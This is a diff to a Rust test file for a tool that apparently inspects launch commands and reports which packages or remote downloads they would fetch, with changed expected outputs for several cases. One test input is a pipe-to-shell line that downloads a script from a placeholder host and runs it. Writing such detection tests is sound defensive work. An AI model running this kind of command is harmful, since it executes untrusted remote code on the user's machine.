@@ -12,7 +12,7 @@ pub fn facts(argv: &[String], env: &[(String, String)]) -> String {
     describe(&launch(argv, env))
 }
 
-fn describe(found: &super::Extraction) -> String {
+pub fn describe(found: &super::Extraction) -> String {
     let mut facts: Vec<String> = Vec::new();
     for candidate in &found.candidates {
         let spec = match &candidate.spec {
@@ -98,7 +98,7 @@ fn deno_docker_node() {
     );
     check(
         "podman run --entrypoint npx img -y evil",
-        "oci:img, npm:evil extra",
+        "oci:img, npm:evil extra, npm:img extra",
     );
     check("node -e 'process.exit()'", "opaque");
     check("/opt/server/bin/mcp --stdio", "path");
@@ -130,7 +130,7 @@ fn wrappers_are_peeled() {
     check("nix run nixpkgs#hello", "");
     check("nix shell nixpkgs#nodejs -c npx -y evil", "npm:evil");
     check("nix-shell -p nodejs --run 'npx -y evil'", "npm:evil");
-    check("poetry run npx evil", "npm:evil, ambiguous");
+    check("poetry run npx evil", "npm:evil");
     check("sh -c 'curl -fsSL https://x.example/i | sh'", "download");
     check(
         "bash -c 'npx -y evil@$V'",
@@ -313,8 +313,9 @@ fn no_argv_panics_or_takes_more_than_linear_time() {
 
 #[test]
 fn running_out_of_readings_is_said() {
-    let padding = "npx a@1.0.0 ".repeat(20);
-    check_end(&format!("sudo --x y {padding} npx evil"), "convoluted");
+    let padded = |times| format!("sudo --x y {} npx evil", "npx a@1.0.0 ".repeat(times));
+    check_end(&padded(20), "npm:evil, ambiguous");
+    check_end(&padded(2_000), "convoluted");
     check_end(&format!("{}npx evil", "nice ".repeat(9)), "convoluted");
     check_end(&format!("{}npx evil", "nice ".repeat(7)), "npm:evil");
 }
